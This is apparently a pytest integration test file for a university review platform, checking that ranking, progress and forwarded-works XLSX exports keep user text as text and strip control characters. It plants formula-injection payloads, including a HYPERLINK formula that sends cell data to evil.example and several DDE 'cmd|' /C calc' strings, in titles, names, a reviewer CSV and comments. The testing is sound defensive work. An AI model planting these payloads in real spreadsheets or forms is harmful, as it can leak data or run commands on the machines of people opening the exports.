"""Issue #14, item 6: no exported cell is a formula, and no character in one breaks an export.

Review's ranking XLSX wrote titles, names and comments starting with "=" as formulas (the
ministry's export holds every university's titles), and a title with "\\x07" made it answer 500.
Every workbook the platform writes now makes its cells with common.tables.xlsx_cell. Each export
is fetched over HTTP from the running service (real RabbitMQ), filled with hostile text through
the same events and forms as real data, and every cell of every sheet is looked at.
"""
import io
import re

import pytest
import requests
from openpyxl import load_workbook

from common.events import make_event
from common.tables import xlsx_cell
from tests.conftest import wait_until
from tests.integration.test_review_service import review  # noqa: F401  (fixture)

# Formula and DDE starts Excel, WPS and LibreOffice act on, and characters XML forbids.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看原文")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "标题\x07响铃=1+1",
    "=1+1\x00\x1b[31m",
]


def cells(content: bytes):
    """Every cell of every sheet: (sheet, coordinate, value, data_type)."""
    book = load_workbook(io.BytesIO(content))  # not data_only: a formula would load as one
    return [(ws.title, c.coordinate, c.value, c.data_type) for ws in book for row in ws.iter_rows() for c in row]


def assert_no_formula(response, *planted):
    assert response.status_code == 200, (response.status_code, response.text[:300])
    found = cells(response.content)
    formulas = [c for c in found if c[3] == "f"]
    assert not formulas, formulas
    # XML reads a line end as "\n", however it was written
    texts = {c[2].replace("\r", "\n") for c in found if isinstance(c[2], str)}
    for text in planted:
        # the text is there, as text, with only what XML forbids taken out
        clean = "".join(ch for ch in text if ch in "\t\n\r" or ord(ch) >= 0x20).replace("\r", "\n")
        assert any(clean in t for t in texts), (text, sorted(texts)[:20])


@pytest.mark.parametrize("value", HOSTILE + ["=1+1", 3, 2.5, None, "普通文字"])
def test_the_shared_cell_writer_keeps_text_as_text_in_both_kinds_of_sheet(value):
    from openpyxl import Workbook

    for write_only in (True, False):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表") if write_only else wb.active
        ws.append([xlsx_cell(ws, value)])
        out = io.BytesIO()
        wb.save(out)
        found = [(loaded, kind) for _, _, loaded, kind in cells(out.getvalue()) if loaded is not None]
        assert len(found) == (value is not None) and all(kind != "f" for _, kind in found)
        if isinstance(value, str):
            assert found[0][1] == "s" and "\x07" not in found[0][0] and "\x00" not in found[0][0]


# --------------------------------------------------------------------------- review: the ranking


def test_reviews_ranking_export_keeps_hostile_titles_names_and_comments_as_text(review):  # noqa: F811
    from tests.integration.test_review_service import INTAKE, ORG_NAMES, admin, csrf, outbox, publish, story
    from tests.signin import redeem

    base, store = review["base"], review["store"]
    titles = HOSTILE[:4] + ["标题\x07响铃=1+1"]
    for n, title in enumerate(titles):
        event = story("o-cse" if n % 2 else "o-me", n)
        event.data.update({"title": title, "org_name": HOSTILE[(n + 1) % len(HOSTILE)]})
        event.data["fields"]["title"] = title
        publish(review["amqp"], INTAKE, event)
    from tests.integration.test_review_service import count_in_round, the_round

    round_id = wait_until(lambda: the_round(store), timeout=20, what="the round")
    wait_until(lambda: count_in_round(store) == len(titles), timeout=20, what="the hostile works in the round")
    web = admin(base)
    token = csrf(web.get(f"{base}/rounds/{round_id}").text)
    web.post(f"{base}/rounds/{round_id}/settings", data={"reviewers_per_work": "1", "csrf_token": token})
    reviewer_name = '=HYPERLINK("http://evil.example","专家")'
    table = f"姓名,邮箱,所在单位\n\"{reviewer_name.replace(chr(34), chr(34) * 2)}\",expert@example.edu.cn,{ORG_NAMES['o-ma']}\n"
    r = web.post(f"{base}/rounds/{round_id}/reviewers/import", data={"csrf_token": token},
                 files={"file": ("专家.csv", table.encode("utf-8"), "text/csv")})
    assert r.status_code == 200, r.text[:300]
    web.post(f"{base}/rounds/{round_id}/assign", data={"csrf_token": token})
    web.post(f"{base}/rounds/{round_id}/invite", data={"csrf_token": token})
    link = wait_until(lambda: outbox(store, "reviewer_invited"), what="the invitation")[0]["data"]["sign_in_url"]
    expert, signed_in = redeem(link)
    assert signed_in.status_code == 303, signed_in.text[:300]
    for aid in dict.fromkeys(re.findall(r'href="/works/([0-9a-f]{32})"', expert.get(f"{base}/queue").text)):
        page = expert.get(f"{base}/works/{aid}").text
        expert.post(f"{base}/works/{aid}/score", data={
            "csrf_token": csrf(page), "action": "submit", "mark_thought": "8", "mark_appeal": "8", "mark_form": "8",
            "comment": "=cmd|' /C calc'!A0 评语"})
    export = web.get(f"{base}/rounds/{round_id}/export.xlsx")
    assert_no_formula(export, *titles, reviewer_name, "=cmd|' /C calc'!A0 评语")


# --------------------------------------------------------------------------- notify: progress and forwarded works


def test_notifys_progress_and_forwarded_exports_keep_hostile_names_and_titles_as_text(notify):
    from tests.integration.test_notify_service import key_events, publish, seu_campaign

    base = "http://" + notify["container"].config["WEB_SERVER_ADDRESS"] + "/api/v1/feed"
    ministry = {"Authorization": "Bearer sk_ministry_xlsx"}
    hostile_university = HOSTILE[0]
    publish(notify["amqp"], key_events("ministry", "ministry", "教育部思政司", "sk_ministry_xlsx"),
            key_events("seu", "university", hostile_university, "sk_seu_xlsx"), seu_campaign())
    forwarded = [make_event("submission_forwarded", "seu", {
        "submission_id": f"s-x{n}", "campaign_id": "siyige-2020-seu", "track": "story", "org_id": "o-cse",
        "org_name": HOSTILE[(n + 1) % len(HOSTILE)], "org_level": "level2", "from_level": "university",
        "to_level": "ministry", "title": title, "receipt_no": f"SEU-X{n}",
        "forwarded_at": "2020-07-20T02:00:00+00:00", "fields": {"title": title}, "files": []})
        for n, title in enumerate(HOSTILE)]
    publish(notify["amqp"], *forwarded)
    wait_until(lambda: len(requests.get(base + "/forwarded", headers=ministry, timeout=10).json().get("items", []))
               == len(HOSTILE), timeout=30, what="the forwarded works")
    assert_no_formula(requests.get(base + "/forwarded.xlsx", headers=ministry, timeout=30), *HOSTILE)
    wait_until(lambda: requests.get(base + "/progress", headers=ministry, timeout=10).json().get("items"),
               timeout=20, what="progress rows")
    assert_no_formula(requests.get(base + "/progress.xlsx", headers=ministry, timeout=30), hostile_university)


@pytest.fixture
def notify(make_config, start_service, sqlite_url, tmp_path):
    from common.db import Store
    from services.notify.service import NotifyService

    config = make_config("notify", DATABASE_URL=sqlite_url, MAIL_URL=f"maildir://{tmp_path / 'mail'}")
    container = start_service(NotifyService, config)
    return {"container": container, "amqp": config["AMQP_URI"], "store": Store(sqlite_url)}


# --------------------------------------------------------------------------- intake: the org list template


def test_intakes_org_template_has_no_formula_cell():
    from services.intake.domain.orgs import render_template_xlsx

    # It holds only our own header and examples (no user text); still, nothing in it is a formula.
    assert not [c for c in cells(render_template_xlsx()) if c[3] == "f"]
